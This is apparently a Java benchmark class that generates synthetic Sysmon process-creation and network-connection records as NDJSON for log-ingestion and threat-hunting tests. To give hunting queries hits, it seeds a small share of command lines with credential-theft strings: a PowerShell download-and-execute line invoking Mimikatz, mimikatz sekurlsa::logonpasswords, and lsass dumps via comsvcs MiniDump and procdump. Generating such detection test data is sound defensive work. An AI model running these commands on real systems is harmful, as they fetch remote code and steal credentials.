package io.hsystem.bench;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.Base64;
import java.util.SplittableRandom;

/**
 * Realistic Sysmon JSON records in the flat form the OTRF Security-Datasets use (see {@code
 * /work/shared/data/events/otrf/windows/*.json}): EventID 1 (process creation, 60 %) and EventID 3
 * (network connection, 40 %), with the field names and order of those files but without the
 * redundant {@code Message} text (which doubles a record's size and is dropped by most shippers).
 *
 * <p>Values are high-cardinality the way real fleets are: 5,000 hosts, 2,000 users, random process
 * GUIDs, temp paths, base64 PowerShell payloads, ephemeral ports and public IPs; event times are
 * spread uniformly over the {@code spanDays} days before {@code end}. About 0.2 % of process
 * creations are credential-theft command lines (mimikatz, sekurlsa, comsvcs MiniDump, procdump on
 * lsass) so that hunting queries have a few hits. Deterministic for a seed.
 */
final class EventGenerator {

  static final int HOSTS = 5000;
  static final int USERS = 2000;

  private static final DateTimeFormatter UTC =
      DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss.SSS");

  /** image, company/product-ish description, original file name, file version. */
  private static final String[][] IMAGES = {
    {"C:\\Windows\\System32\\cmd.exe", "Windows Command Processor", "Cmd.Exe"},
    {
      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "Windows PowerShell",
      "PowerShell.EXE"
    },
    {"C:\\Windows\\System32\\svchost.exe", "Host Process for Windows Services", "svchost.exe"},
    {"C:\\Windows\\System32\\rundll32.exe", "Windows host process (Rundll32)", "RUNDLL32.EXE"},
    {"C:\\Windows\\System32\\reg.exe", "Registry Console Tool", "reg.exe"},
    {"C:\\Windows\\System32\\conhost.exe", "Console Window Host", "CONHOST.EXE"},
    {"C:\\Windows\\System32\\schtasks.exe", "Task Scheduler Configuration Tool", "schtasks.exe"},
    {"C:\\Windows\\System32\\net.exe", "Net Command", "net.exe"},
    {"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "WMI Provider Host", "Wmiprvse.exe"},
    {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google Chrome", "chrome.exe"},
    {
      "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
      "Microsoft Word",
      "WinWord.exe"
    },
    {null, "Updater", "updater.exe"}, // a per-user temp binary: high-cardinality path
  };

  private static final int[] IMAGE_WEIGHTS = {14, 12, 18, 8, 5, 10, 4, 4, 5, 10, 4, 6};

  private static final String[] SERVICES = {
    "netsvcs -p -s Schedule",
    "LocalServiceNetworkRestricted -p -s Dhcp",
    "NetworkService -p -s Dnscache",
    "LocalSystemNetworkRestricted -p -s SysMain",
    "netsvcs -p -s Winmgmt",
    "UnistackSvcGroup -s CDPUserSvc",
    "wsappx -p -s AppXSvc",
    "LocalService -p -s BthAvctpSvc"
  };

  private static final String[] PARENTS = {
    "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\services.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
  };

  private static final int[] COMMON_PORTS = {443, 80, 445, 53, 135, 139, 3389, 5985, 22, 8080};
  private static final int[] PORT_WEIGHTS = {50, 15, 6, 5, 3, 2, 2, 1, 1, 1};

  private final SplittableRandom random;
  private final long endMillis;
  private final long spanMillis;
  private final StringBuilder sb = new StringBuilder(1600);
  private final byte[] blob = new byte[200];
  private long suspicious;

  EventGenerator(long seed, Instant end, int spanDays) {
    this.random = new SplittableRandom(seed);
    this.endMillis = end.toEpochMilli();
    this.spanMillis = spanDays * 86_400_000L;
  }

  /** Process creations that carry a credential-theft marker so far. */
  long suspicious() {
    return suspicious;
  }

  /** One record as one JSON line (no newline). */
  String next() {
    sb.setLength(0);
    long t = endMillis - 1 - (long) (random.nextDouble() * spanMillis);
    String utc = UTC.format(LocalDateTime.ofInstant(Instant.ofEpochMilli(t), ZoneOffset.UTC));
    int host = random.nextInt(HOSTS);
    String hostname = String.format("WKS-%05d", host);
    String user = user();
    if (random.nextInt(100) < 60) {
      processCreate(utc, hostname, user);
    } else {
      network(utc, hostname, user, host);
    }
    return sb.toString();
  }

  /** A whole NDJSON body of {@code n} records. */
  byte[] ndjson(int n) {
    StringBuilder body = new StringBuilder(n * 1200);
    for (int i = 0; i < n; i++) {
      body.append(next()).append('\n');
    }
    return body.toString().getBytes(StandardCharsets.UTF_8);
  }

  private String user() {
    int u = random.nextInt(100);
    if (u < 30) {
      return "NT AUTHORITY\\SYSTEM";
    } else if (u < 35) {
      return "NT AUTHORITY\\NETWORK SERVICE";
    } else if (u < 40) {
      return "NT AUTHORITY\\LOCAL SERVICE";
    }
    return String.format("CORP\\user%04d", random.nextInt(USERS));
  }

  private void processCreate(String utc, String hostname, String user) {
    int which = weighted(IMAGE_WEIGHTS);
    String[] image = IMAGES[which];
    String userName = user.substring(user.indexOf('\\') + 1);
    String path =
        image[0] != null
            ? image[0]
            : "C:\\Users\\" + userName + "\\AppData\\Local\\Temp\\" + hex(8) + "\\updater.exe";
    String commandLine = commandLine(which, path, userName);
    String parent = PARENTS[random.nextInt(PARENTS.length)];
    String guid = guid();
    sb.append('{');
    field("Company", "Microsoft Corporation");
    field("Task", "1");
    field("Description", image[1]);
    field("CommandLine", commandLine);
    field("Product", "Microsoft\u00ae Windows\u00ae Operating System");
    field("OriginalFileName", image[2]);
    field("User", user);
    field("ParentProcessId", Integer.toString(random.nextInt(200, 30000)));
    field("Channel", "Microsoft-Windows-Sysmon/Operational");
    field("IntegrityLevel", user.startsWith("NT AUTHORITY") ? "System" : "Medium");
    field("ProcessGuid", guid);
    field("CurrentDirectory", "C:\\Windows\\system32\\");
    field("Hashes", "SHA1=" + hexUpper(40) + ",SHA256=" + hexUpper(64));
    field("UtcTime", utc);
    field("SourceName", "Microsoft-Windows-Sysmon");
    field("ParentCommandLine", "\"" + parent + "\" ");
    field("TerminalSessionId", Integer.toString(random.nextInt(3)));
    field("ProcessId", Integer.toString(random.nextInt(200, 30000)));
    field("ParentImage", parent);
    field("ParentProcessGuid", guid());
    field("Image", path);
    field("Hostname", hostname);
    field("LogonId", "0x" + Integer.toHexString(random.nextInt(0x3e7, 0xfffff)));
    sb.append("\"EventID\":1,");
    field("RuleName", "-");
    sb.setLength(sb.length() - 1);
    sb.append('}');
  }

  private void network(String utc, String hostname, String user, int host) {
    String[] image = IMAGES[weighted(IMAGE_WEIGHTS)];
    String path =
        image[0] != null
            ? image[0]
            : "C:\\ProgramData\\" + hex(8) + "\\updater.exe"; // dropped implant-ish binaries
    int port =
        random.nextInt(100) < 85
            ? COMMON_PORTS[weighted(PORT_WEIGHTS)]
            : random.nextInt(1025, 65536);
    sb.append('{');
    field("Keywords", "0x8000000000000000");
    field("Task", "3");
    field("RuleName", "-");
    field("SourceIsIpv6", "false");
    field("Protocol", random.nextInt(10) == 0 ? "udp" : "tcp");
    field("DestinationIp", publicIp());
    field("SourceHostname", "-");
    field("Initiated", "true");
    field("SourcePort", Integer.toString(random.nextInt(49152, 65536)));
    field("User", user);
    field("SourceName", "Microsoft-Windows-Sysmon");
    field("ProcessGuid", guid());
    field("UtcTime", utc);
    field("SourcePortName", "-");
    field("SourceIp", "10." + (host / 250) + "." + (host % 250) + "." + random.nextInt(1, 255));
    field("DestinationPort", Integer.toString(port));
    field("ProcessId", Integer.toString(random.nextInt(200, 30000)));
    field("DestinationHostname", "-");
    field("Level", "4");
    field("Image", path);
    field("Hostname", hostname);
    field("DestinationPortName", port == 443 ? "https" : port == 80 ? "http" : "-");
    field("Channel", "Microsoft-Windows-Sysmon/Operational");
    field("DestinationIsIpv6", "false");
    sb.append("\"EventID\":3,");
    field("ProviderGuid", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}");
    sb.setLength(sb.length() - 1);
    sb.append('}');
  }

  private String commandLine(int image, String path, String user) {
    if (random.nextInt(1000) < 2) {
      suspicious++;
      String temp = "C:\\Users\\" + user + "\\AppData\\Local\\Temp\\" + hex(8);
      return switch (random.nextInt(4)) {
        case 0 ->
            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://"
                + publicIp()
                + "/"
                + hex(12)
                + ".ps1'); Invoke-Mimikatz -DumpCreds\"";
        case 1 -> temp + "\\mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit";
        case 2 ->
            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump "
                + random.nextInt(500, 1500)
                + " C:\\Windows\\Temp\\lsass-"
                + hex(6)
                + ".dmp full";
        default ->
            temp
                + "\\procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\"
                + hex(8)
                + ".dmp";
      };
    }
    return switch (image) {
      case 0 ->
          "\"C:\\Windows\\system32\\cmd.exe\" /c echo "
              + guid()
              + " > C:\\Users\\"
              + user
              + "\\AppData\\Local\\Temp\\"
              + hex(8)
              + ".tmp";
      case 1 ->
          "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand " + base64(30, 150);
      case 2 ->
          "C:\\Windows\\system32\\svchost.exe -k " + SERVICES[random.nextInt(SERVICES.length)];
      case 3 ->
          "rundll32.exe C:\\Users\\"
              + user
              + "\\AppData\\Local\\Temp\\"
              + hex(10)
              + ".dll,DllRegisterServer "
              + guid();
      case 4 ->
          "REG.exe ADD HKCU\\Software\\Classes\\CLSID\\"
              + guid()
              + " /v "
              + hex(6)
              + " /t REG_SZ /d C:\\Users\\"
              + user
              + "\\AppData\\Roaming\\"
              + hex(8)
              + ".bat /f";
      case 5 -> "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1";
      case 6 ->
          "schtasks /create /tn \"Update-"
              + guid()
              + "\" /tr \"C:\\ProgramData\\"
              + hex(8)
              + "\\task.exe\" /sc minute /mo "
              + random.nextInt(1, 60);
      case 7 ->
          "net use \\\\10."
              + random.nextInt(256)
              + "."
              + random.nextInt(256)
              + ".12\\C$ /user:CORP\\"
              + user;
      case 8 -> "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding";
      case 9 ->
          "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer"
              + " --field-trial-handle="
              + random.nextInt(1000, 99999)
              + ","
              + hex(16)
              + " --lang=en-US --renderer-client-id="
              + random.nextInt(5, 900)
              + " --mojo-platform-channel-handle="
              + random.nextInt(1000, 9999)
              + " /prefetch:1";
      case 10 ->
          "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\"
              + user
              + "\\Downloads\\Invoice_"
              + random.nextInt(100000, 999999)
              + ".docx\" /o \"\"";
      default -> "\"" + path + "\" /silent /channel=" + hex(6);
    };
  }

  private int weighted(int[] weights) {
    int total = 0;
    for (int w : weights) {
      total += w;
    }
    int pick = random.nextInt(total);
    for (int i = 0; i < weights.length; i++) {
      pick -= weights[i];
      if (pick < 0) {
        return i;
      }
    }
    return weights.length - 1;
  }

  private String publicIp() {
    int a;
    do {
      a = random.nextInt(1, 224);
    } while (a == 10 || a == 127 || a == 172 || a == 192);
    return a + "." + random.nextInt(256) + "." + random.nextInt(256) + "." + random.nextInt(1, 255);
  }

  private String guid() {
    return "{" + hex(8) + "-" + hex(4) + "-" + hex(4) + "-" + hex(4) + "-" + hex(12) + "}";
  }

  private String hex(int n) {
    char[] c = new char[n];
    for (int i = 0; i < n; i++) {
      c[i] = "0123456789abcdef".charAt(random.nextInt(16));
    }
    return new String(c);
  }

  private String hexUpper(int n) {
    char[] c = new char[n];
    for (int i = 0; i < n; i++) {
      c[i] = "0123456789ABCDEF".charAt(random.nextInt(16));
    }
    return new String(c);
  }

  private String base64(int min, int max) {
    int n = random.nextInt(min, max);
    for (int i = 0; i < n; i++) {
      blob[i] = (byte) random.nextInt(256);
    }
    return Base64.getEncoder().encodeToString(java.util.Arrays.copyOf(blob, n));
  }

  /** Appends {@code "name":"value",} with JSON escaping. */
  private void field(String name, String value) {
    sb.append('"').append(name).append("\":\"");
    for (int i = 0; i < value.length(); i++) {
      char c = value.charAt(i);
      if (c == '"' || c == '\\') {
        sb.append('\\');
      }
      sb.append(c);
    }
    sb.append("\",");
  }
}
